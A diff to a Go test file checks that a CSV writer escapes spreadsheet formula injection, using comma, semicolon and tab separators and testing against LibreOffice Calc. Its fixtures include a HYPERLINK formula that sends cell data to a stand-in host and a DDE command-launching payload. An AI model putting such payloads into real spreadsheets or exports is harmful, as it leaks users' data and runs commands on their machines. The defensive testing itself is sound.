@@ -31,15 +31,17 @@ var spiteNames = []struct{ name, cell string }{
 	{`@SUM(A1)`, `'@SUM(A1)`},
 	{`=HYPERLINK("http://evil.example/?"&A1,"bread")`, `'=HYPERLINK("http://evil.example/?"&A1,"bread")`},
 	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
-	{"\t=1+1", "'\t=1+1"},
+	{"\t=1+1", "'\t'=1+1"},
 	{"\r=1+1", "'=1+1"},
-	{"\n=1+1", "'\n=1+1"},
+	{"\n=1+1", "'\n'=1+1"},
 	{"  =1+1", "'  =1+1"},
 	{"\u00a0\ufeff\u200b=1+1", "'\u00a0\ufeff\u200b=1+1"},
 	{"\x00\u202e=1+1", "'=1+1"},
 	{"＝1+1", "'＝1+1"},
-	{`";=1+1;"`, `";=1+1;"`},
-	{"bread\r\n=1+1,\"=1+1\"", "bread\n=1+1,\"=1+1\""},
+	{`";=1+1;"`, `";'=1+1;"`},
+	{`Dupont;=cmd|' /C calc'!A0;`, `Dupont;'=cmd|' /C calc'!A0;`},
+	{"Dupont\t=1+1\t", "Dupont\t'=1+1\t"},
+	{"bread\r\n=1+1,\"=1+1\"", "bread\n'=1+1,\"=1+1\""},
 	{`'=1+1`, `'=1+1`},
 	{"\xff\xfe=1+1", "\ufffd\ufffd=1+1"},
 }
@@ -82,12 +84,14 @@ func TestATableIsReadBackWithoutAFormula(t *testing.T) {
 		t.Skip("no spreadsheet program: soffice (LibreOffice Calc) isn't installed")
 	}
 	sheet := spreadsheet{t: t, program: office, dir: t.TempDir()}
-	alone := sheet.formulas(bare(t, list))
+	alone := sheet.formulas(bare(t, list), comma)
 	if alone == 0 {
 		t.Fatal("the spreadsheet program computes none of these names where they stand as they are: nothing can be told")
 	}
-	if n := sheet.formulas(table); n != 0 {
-		t.Errorf("the spreadsheet program computes %d cells", n)
+	for name, separators := range map[string]string{"the comma": comma, "the semicolon": semicolon, "the tab": tab, "any of them": comma + "/" + semicolon + "/" + tab} {
+		if n := sheet.formulas(table, separators); n != 0 {
+			t.Errorf("the spreadsheet program computes %d cells, where %s separates them", n, name)
+		}
 	}
 	again, err := csv.NewReader(bytes.NewReader(sheet.saved(table, len(rows[0])))).ReadAll()
 	if err != nil || len(again) != len(rows) {
@@ -169,18 +173,25 @@ type spreadsheet struct {
 	dir     string
 }
 
-// Its words for a table with commas and quotes in UTF-8, read from the first line; what follows is: the kind of each column (2 is text), English, whether quoted
+// What separates cells, as character codes.
+const (
+	comma     = "44"
+	semicolon = "59"
+	tab       = "9"
+)
+
+// Its words for a table with commas (eagerly, any separators) and quotes in UTF-8, read from the first line; what follows is: the kind of each column (2 is text), English, whether quoted
 // cells are text, whether dates and the like are recognised, four settings of no meaning here, every sheet, and whether formulas are computed.
 const (
-	readEager = "CSV:44,34,76,1,,1033,false,true,false,false,false,0,true"
+	readEager = "CSV:%s,34,76,1,,1033,false,true,false,false,false,0,true"
 	readText  = "CSV:44,34,76,1,%s,1033,true,false,false,false,false,0,false"
 	saveText  = "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false,false,false,false,0"
 )
 
 // formulas opens a table as eagerly as the program can, and counts the cells that it computes.
-func (s spreadsheet) formulas(table []byte) int {
+func (s spreadsheet) formulas(table []byte, separators string) int {
 	s.t.Helper()
-	d := xml.NewDecoder(bytes.NewReader(s.convert(table, readEager, "fods", "fods")))
+	d := xml.NewDecoder(bytes.NewReader(s.convert(table, fmt.Sprintf(readEager, separators), "fods", "fods")))
 	cells, found := 0, 0
 	for {
 		token, err := d.Token()
